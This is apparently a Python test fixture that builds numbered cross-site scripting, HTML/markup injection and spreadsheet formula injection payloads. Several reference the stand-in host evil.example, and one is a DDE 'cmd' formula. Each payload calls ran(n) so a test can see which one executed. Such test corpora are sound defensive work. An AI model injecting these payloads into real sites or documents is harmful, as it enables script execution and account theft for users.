"""Texts that try to become script, markup, a formula or another document, each saying who it is when it succeeds."""

from itertools import islice, product

# `{ran}` is what runs where one succeeds.
SCRIPTS = (
    "<script>{ran}</script>", "<ScRiPt >{ran}</sCrIpT>", "<script src=data:text/javascript,{ran}></script>",
    "<img src=x onerror={ran}>", '<img src="x` `<script>{ran}</script>"` `>', "<svg onload={ran}>",
    "<svg><script>{ran}</script></svg>", "<svg><animate onbegin={ran} attributeName=x dur=1s>",
    "<math><mtext><style><img src onerror={ran}></style></mtext></math>", "<body onload={ran}>",
    "<iframe srcdoc='<script>parent.{ran}</script>'></iframe>", "<iframe src=javascript:parent.{ran}></iframe>",
    "<a href=javascript:{ran}>x</a>", "<object data=data:text/html,{ran}>", "<embed src=javascript:{ran}>",
    "<details open ontoggle={ran}>", "<video><source onerror={ran}></video>", "<input autofocus onfocus={ran}>",
    "<form><button formaction=javascript:{ran}>x</button></form>", "<style>@import 'javascript:{ran}';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{ran}'>", "<template><script>{ran}</script></template>",
    "javascript:{ran}", "https://academy.example/\" onmouseover=\"{ran}", "https://x.example/'><script>{ran}</script>",
    "data:text/html,<script>{ran}</script>", "//evil.example/{ran}", "${{{ran}}}", "{{{{{ran}}}}}",
    "<!--<img src=--><img src=x onerror={ran}>",
    "]]><script>{ran}</script>", "&lt;script&gt;{ran}&lt;/script&gt;",
)  # fmt: skip
BEFORE = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></style>{}",
    "`-{}",
    '\\"{}',
    "\u202e{}",
    "=cmd|'{}'!A0",
)


def payloads(count: int) -> list[str]:
    """Return so many different ones; the n-th runs `ran(n)`."""
    every = (before.format(script) for before, script in product(BEFORE, SCRIPTS))
    return [text.replace("{ran}", f"ran({number})") for number, text in enumerate(islice(every, count))]
